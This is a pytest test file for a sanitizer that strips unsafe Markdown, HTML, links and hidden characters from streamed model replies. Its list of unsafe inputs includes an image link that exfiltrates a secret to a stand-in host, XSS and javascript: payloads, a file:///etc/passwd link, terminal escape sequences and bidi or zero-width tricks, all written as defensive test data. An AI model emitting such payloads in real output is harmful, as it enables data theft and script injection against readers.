"""Replies that are safe to show, whole and word by word."""

import re

import pytest

from tools.models.reply_text import LONGEST_REPLY, cut, origin, safe

HERE = frozenset({"https://page.example", "http://127.0.0.1:8000"})
UNSAFE = [
    "![track](https://evil.example/x.png?q=secret)",
    "!![x](//evil.example/x.png)",
    "![x][1]\n[1]: https://evil.example/p.png",
    "[click](https://evil.example)",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](data:text/html,<script>alert(1)</script>)",
    "[click](vbscript:msgbox(1))",
    "[click](//evil.example)",
    "[click](/\\evil.example)",
    "[click](\\\\evil.example\\share)",
    "[click](https://page.example@evil.example/)",
    "[click](https://page.example.evil.example/)",
    "[click](https://page.example\\@evil.example)",
    "[click](http://page.example/)",
    "[click](https://page.example:444/)",
    "<https://evil.example>",
    "https://evil.example/a?b=c",
    "HTTPS://EVIL.EXAMPLE",
    "ftp://evil.example/x",
    "file:///etc/passwd",
    "www.evil.example/x",
    "mailto:a@evil.example",
    "tel:+100",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=//evil.example/x>",
    "<svg/onload=alert(1)>",
    "</p><iframe src=https://evil.example>",
    "<!--[if IE]><script>x</script><![endif]-->",
    "<?xml version='1.0'?>",
    "<a href='https://evil.example'>x</a>",
    "\x1b[31mred\x1b[0m and \x1b]8;;https://evil.example\x07link\x1b]8;;\x07",
    "\x1b]0;title\x07\x9b31m",
    "abc\u202etxt.exe\u202c",
    "a\u2066b\u2069c\u200fd",
    "pass\u200bword\ufeff\u2060x",
    "\U000e0041\U000e0042hidden",
    "a\x00b\x07c\x7f",
    "java\u200bscript:alert(1) <\u200bscript>",
    "blob:https://page.example/x",
]
assert len(UNSAFE) >= 40
SAFE = [
    "The page is public at https://page.example/public/artifact/abc_-123.",
    "Title is “Autumn”; 3 < 4 and 5 > 4; and/or; a ratio of 16:9; at 10:30.",
    "1. a red boat (sketch): http://127.0.0.1:8000/images/p-0/public\n2. another",
    "Größe, naïve, 東京, émoji 🎨",
    "data: five items; file: none",
    "* a list\n* of things\n\n**bold** `code`",
]


def live(text: str) -> list[str]:
    """What a reader of Markdown or HTML would act upon."""
    tags = re.findall(r"<(?=[A-Za-z/!?])[^>]*>?", text)
    images = re.findall(r"!\[", text)
    targets = re.findall(r"\]\([^)]*\)|\]:\s*\S+", text)
    addresses = [
        found
        for found in re.findall(r"(?:[a-z][a-z0-9+.-]*:)?//[^\s)\]>'\"]*|www\.\S+", text, re.IGNORECASE)
        if origin(found) not in HERE
    ]
    schemes = re.findall(r"\b(?:javascript|vbscript|data|file|blob|mailto|tel):\S", text, re.IGNORECASE)
    hidden = re.findall(
        "[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2060-\u206f\ufeff\U000e0000-\U000e0fff]", text
    )
    return [*tags, *images, *targets, *addresses, *schemes, *hidden]


@pytest.mark.parametrize("text", UNSAFE)
def test_nothing_in_a_reply_acts(text: str) -> None:
    """No tag, image, foreign link, script or hidden character is left, however it was written."""
    assert live(text) or "[1]" in text or "&#" in text
    assert live(safe(text, HERE)) == []
    assert live(safe(f"See {text} here", HERE)) == []


@pytest.mark.parametrize("text", SAFE)
def test_plain_words_and_own_links_stay(text: str) -> None:
    """Harmless text is shown unchanged."""
    assert safe(text, HERE) == text


@pytest.mark.parametrize("text", [*UNSAFE, *SAFE])
def test_words_told_one_by_one_read_the_same(text: str) -> None:
    """A stream that is cut between words gives the same text as the whole reply."""
    said = f"Before {text} after"
    assert "".join(safe(word, HERE) for word in re.findall(r"\S+\s*", said)) == safe(said, HERE)
    assert safe(safe(said, HERE), HERE) == safe(said, HERE)


def test_a_reply_has_an_end() -> None:
    """An overlong reply is cut, visibly."""
    assert cut("short") == "short"
    assert len(cut("x" * 100_000)) == LONGEST_REPLY and cut("x" * 100_000).endswith("…")
